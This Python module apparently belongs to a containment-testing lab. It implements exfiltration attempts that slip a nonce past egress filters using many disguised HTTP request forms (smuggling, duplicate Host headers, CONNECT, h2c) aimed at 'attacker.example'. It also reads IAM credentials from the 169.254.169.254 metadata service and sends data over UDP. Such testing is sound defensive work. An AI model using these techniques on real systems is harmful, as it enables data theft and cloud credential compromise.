"""Attempts without TLS: HTTP in several disguises, the metadata service, other protocols on a permitted port, and datagrams."""

from __future__ import annotations

import http.client
import json
import socket
import time

from containment_lab.attacks.task import Attempt, Technique, close_after_delivery, unescape_option

_APPROVED = "integrate.api.nvidia.com"
"""A name that every class permits."""


def send_http(attempt: Attempt) -> None:
    """Send HTTP with a Host that may be approved, in forms that are known to mislead proxies."""
    host = attempt.get_option("host", "attacker.example")
    attempt.marks.append(host.lower())
    sent = _build_request(attempt.get_option("form"), host, attempt.nonce)
    with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
        if attempt.get_option("form") == "reused":
            handle.sendall(f"GET / HTTP/1.1\r\nHost: {_APPROVED}\r\n\r\n".encode())
            handle.recv(4096)
        handle.sendall(sent.encode())


def _build_request(form: str, host: str, nonce: str) -> str:
    """Return a request with the nonce; `form` is the disguise, empty for a regular request to `host`."""
    rest = f"Content-Length: {len(nonce)}\r\n\r\n{nonce}"
    approved = f"GET / HTTP/1.1\r\nHost: {_APPROVED}\r\n"
    hidden = f"POST /{nonce} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    forms = {
        "": f"POST / HTTP/1.1\r\nHost: {host}\r\n{rest}",
        "connect": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nX-Data: {nonce}\r\n\r\n",
        "connect-other-host": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {_APPROVED}:443\r\nX-Data: {nonce}\r\n\r\n",
        "absolute": f"POST http://{host}/{nonce} HTTP/1.1\r\nHost: {_APPROVED}\r\nContent-Length: 0\r\n\r\n",
        "absolute-approved": f"POST http://{_APPROVED}/ HTTP/1.1\r\nHost: {host}\r\n{rest}",
        "websocket": f"GET /{nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        "h2c": f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{nonce}",
        "h2c-upgrade": f"GET /{nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
        "old": f"GET /{nonce} HTTP/1.0\r\n\r\n",
        "case": f"POST / HTTP/1.1\r\nhOsT: {host.upper()}.\r\n{rest}",
        "pipelined": f"{approved}\r\n{hidden}",
        "chunked": f"{approved.replace('GET', 'POST')}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
        "long-body": f"{approved.replace('GET', 'POST')}Content-Length: {len(hidden)}\r\n\r\n{hidden}",
        "two-hosts": f"POST / HTTP/1.1\r\nHost: {_APPROVED}\r\nHost: {host}\r\n{rest}",
        "port": f"POST / HTTP/1.1\r\nHost: {host}:8080\r\n{rest}",
        "user": f"POST / HTTP/1.1\r\nHost: {_APPROVED}@{host}\r\n{rest}",
        "folded": f"POST / HTTP/1.1\r\nHost: {_APPROVED}\r\n {host}\r\n{rest}",
        "forwarded": f"POST / HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Host: {_APPROVED}\r\nForwarded: host={_APPROVED}\r\n{rest}",
        "bare-lines": f"POST / HTTP/1.1\nHost: {host}\nContent-Length: {len(nonce)}\n\n{nonce}",
        "empty-lines": f"\r\n\r\nPOST / HTTP/1.1\r\nHost: {host}\r\n{rest}",
        "method": f"EXFIL /{nonce} HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "version": f"GET /{nonce} HTTP/9.9\r\nHost: {host}\r\n\r\n",
    }
    return forms["" if form == "reused" else form]


def read_credentials(attempt: Attempt) -> None:
    """Read the host's credentials from the metadata service without a token."""
    attempt.marks.append("/latest/meta-data/iam/security-credentials/")
    base = "/latest/meta-data/iam/security-credentials/"
    role = _fetch_path(base)
    attempt.took.append(str(json.loads(_fetch_path(base + role))["Token"]))


def _fetch_path(path: str) -> str:
    connection = http.client.HTTPConnection("169.254.169.254", timeout=3)
    connection.request("GET", path)
    answer = connection.getresponse()
    if answer.status != 200:
        raise PermissionError(f"HTTP {answer.status}")
    return answer.read().decode()


def send_protocol_start(attempt: Attempt) -> None:
    """Open a connection, send the start of another protocol, then the nonce."""
    with close_after_delivery(attempt.connect(attempt.parse_number("port", 443))) as handle:
        handle.sendall(unescape_option(attempt.get_option("say")) + attempt.nonce.encode() + b"\r\n")


def send_datagrams(attempt: Attempt) -> None:
    """Send datagrams with the nonce."""
    where = attempt.resolve_target()
    with socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM) as handle:
        if "sport" in attempt.options:
            handle.bind(("", attempt.parse_number("sport", 0)))
        first = unescape_option(attempt.get_option("say"))
        data = first + attempt.nonce.encode() + b"." * attempt.parse_number("pad", 0)
        for _ in range(2):
            handle.sendto(data, (where, attempt.parse_number("port", 443)))
            time.sleep(0.2)


TECHNIQUES: dict[str, Technique] = {"http": send_http, "metadata": read_credentials, "say": send_protocol_start, "udp": send_datagrams}
